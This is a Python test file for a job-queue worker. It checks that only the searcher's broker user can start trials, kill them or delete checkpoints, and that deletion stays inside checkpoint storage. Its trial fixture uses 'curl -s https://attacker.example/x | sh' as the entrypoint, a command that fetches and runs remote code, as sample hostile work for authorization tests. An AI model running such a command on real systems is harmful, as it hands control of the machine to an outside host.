"""A worker runs commands only from the searcher's broker user (the broker vouches for
every message's ``user_id``): work from anyone else is dead-lettered, a control message
dropped; checkpoint deletion stays inside ``--checkpoint-storage``."""

from __future__ import annotations

from pathlib import Path

import pytest

from rung.broker.memory import MemoryBroker
from rung.broker.port import Delivery
from rung.broker.schemas import DeleteCheckpoints, Envelope, KillTrial, RunTrial, encode
from rung.broker.topology import Topology
from rung.worker.agent import Worker, searcher_user_for_worker
from rung.worker.trial_run import TrialRun

EXP = "exp-0123abcd"
UUID = "00000000-0000-4000-8000-00000000000a"


class Taken(Delivery):
    """A delivery that records how it was settled."""

    outcome: str = ""
    reason: str = ""

    async def ack(self) -> None:
        self.outcome = "ack"

    async def requeue(self) -> None:
        self.outcome = "requeue"

    async def _move_to_dead_queue(self, reason: str) -> None:
        self.outcome, self.reason = "dead", reason


class Run:
    def __init__(self, cmd: RunTrial) -> None:
        self.cmd = cmd
        self.key = (cmd.experiment_id, cmd.trial_id, cmd.attempt)
        self.slot_ids = [0]
        self.killed: list[str] = []

    async def wait(self) -> None:
        return None

    def kill(self, reason: str) -> None:
        self.killed.append(reason)


class StubWorker(Worker):
    """Trials that only record that they started."""

    started: list[RunTrial]

    async def _start(
        self, cmd: RunTrial, slots: list[int], *, run_dir: Path | None = None
    ) -> TrialRun | None:
        self.started.append(cmd)
        return None


async def worker(
    tmp_path: Path, username: str | None, **kw: object
) -> tuple[StubWorker, MemoryBroker]:
    broker = MemoryBroker(Topology("t"))
    await broker.start()
    broker.username = username
    w = StubWorker(broker, worker_id="w", slots=1, work_dir=tmp_path / "w", **kw)  # type: ignore[arg-type]
    w.started = []
    return w, broker


def run_trial() -> RunTrial:
    return RunTrial(
        experiment_id=EXP,
        trial_id=1,
        request_id="r1",
        attempt=1,
        length=1,
        hparams={},
        trial_seed=0,
        context_hash="0" * 64,
        entrypoint=["bash", "-c", "curl -s https://attacker.example/x | sh"],
        slots=1,
        checkpoint_root="checkpoints",
        max_restarts=0,
    )


def delivery(body: object, user_id: str | None, message_id: str = f"{EXP}/1/0") -> Taken:
    data = encode(Envelope(message_id=message_id, experiment_id=EXP, body=body))
    return Taken(body=data, message_id=message_id, user_id=user_id, queue="t.work")


def test_the_searcher_user_follows_the_naming_rule() -> None:
    assert searcher_user_for_worker("rung-worker") == "rung-searcher"
    assert searcher_user_for_worker("acme-worker") == "acme-searcher"
    assert searcher_user_for_worker("guest") == "guest"  # one user plays every role
    assert searcher_user_for_worker("gpu-1") == "rung-searcher"  # a dedicated user
    assert searcher_user_for_worker(None) is None  # no broker vouches: local


@pytest.mark.parametrize("sender", ["rung-operator", "rung-client", "rung-worker", None])
async def test_work_from_anyone_but_the_searcher_is_dead_lettered(
    tmp_path: Path, sender: str | None
) -> None:
    w, _ = await worker(tmp_path, "rung-worker")
    taken = delivery(run_trial(), sender)
    await w._on_work(taken)
    assert (taken.outcome, w.started) == ("dead", [])
    assert "searcher's broker user 'rung-searcher'" in taken.reason
    assert repr(sender) in taken.reason


async def test_work_from_the_searcher_runs(tmp_path: Path) -> None:
    w, _ = await worker(tmp_path, "rung-worker")
    taken = delivery(run_trial(), "rung-searcher")
    await w._on_work(taken)
    assert (taken.outcome, [c.trial_id for c in w.started]) == ("ack", [1])


async def test_a_named_searcher_user_is_the_one_believed(tmp_path: Path) -> None:
    w, _ = await worker(tmp_path, "gpu-1", searcher_user="acme-searcher")
    refused = delivery(run_trial(), "rung-searcher")
    await w._on_work(refused)
    assert refused.outcome == "dead"
    taken = delivery(run_trial(), "acme-searcher", message_id=f"{EXP}/2/0")
    await w._on_work(taken)
    assert taken.outcome == "ack"


async def test_where_no_broker_vouches_everything_is_local(tmp_path: Path) -> None:
    w, _ = await worker(tmp_path, None)
    taken = delivery(run_trial(), None)
    await w._on_work(taken)
    assert (taken.outcome, len(w.started)) == ("ack", 1)


async def test_a_forged_control_command_is_dropped(tmp_path: Path) -> None:
    w, _ = await worker(tmp_path, "rung-worker")
    run = Run(run_trial())
    w.runs[run.key] = run  # type: ignore[assignment]
    kill = KillTrial(experiment_id=EXP, trial_id=1, attempt=1)
    forged = delivery(kill, "rung-operator", message_id=f"{EXP}/9/0")
    await w._on_control(forged)
    assert (forged.outcome, run.killed) == ("ack", [])  # dropped: it ran nothing
    genuine = delivery(kill, "rung-searcher", message_id=f"{EXP}/9/1")
    await w._on_control(genuine)
    assert genuine.outcome == "ack"
    assert len(run.killed) == 1


async def test_a_forged_delete_checkpoints_deletes_nothing(tmp_path: Path) -> None:
    """The review's probe: DeleteCheckpoints(experiment_id="data", checkpoint_root=
    "/home/data") from the operator's user deleted /home/data/<uuid>."""
    data = tmp_path / "home" / "data"
    (data / UUID).mkdir(parents=True)
    w, _ = await worker(tmp_path, "rung-worker")
    forged = DeleteCheckpoints(experiment_id="data", checkpoint_root=str(data), uuids=[UUID])
    taken = delivery(forged, "rung-operator")
    await w._on_work(taken)
    assert taken.outcome == "dead"
    assert (data / UUID).is_dir()
    # Even from the searcher's user, the id is not an experiment's: refused.
    again = delivery(forged, "rung-searcher")
    await w._on_work(again)
    assert again.outcome == "dead"
    assert "experiment_id must be a searcher's experiment id" in again.reason
    assert (data / UUID).is_dir()


async def test_checkpoint_deletion_stays_inside_the_checkpoint_storage(tmp_path: Path) -> None:
    storage, elsewhere = tmp_path / "checkpoints", tmp_path / "elsewhere"
    for base in (storage, elsewhere):
        (base / EXP / UUID).mkdir(parents=True)
    w, _ = await worker(tmp_path, "rung-worker", checkpoint_storage=storage)
    outside = DeleteCheckpoints(
        experiment_id=EXP, checkpoint_root=str(elsewhere / EXP), uuids=[UUID]
    )
    refused = delivery(outside, "rung-searcher")
    await w._on_work(refused)
    assert refused.outcome == "dead"
    assert "outside this worker's checkpoint storage" in refused.reason
    assert (elsewhere / EXP / UUID).is_dir()
    inside = DeleteCheckpoints(experiment_id=EXP, checkpoint_root=str(storage / EXP), uuids=[UUID])
    taken = delivery(inside, "rung-searcher")
    await w._on_work(taken)
    assert taken.outcome == "ack"
    assert not (storage / EXP / UUID).exists()
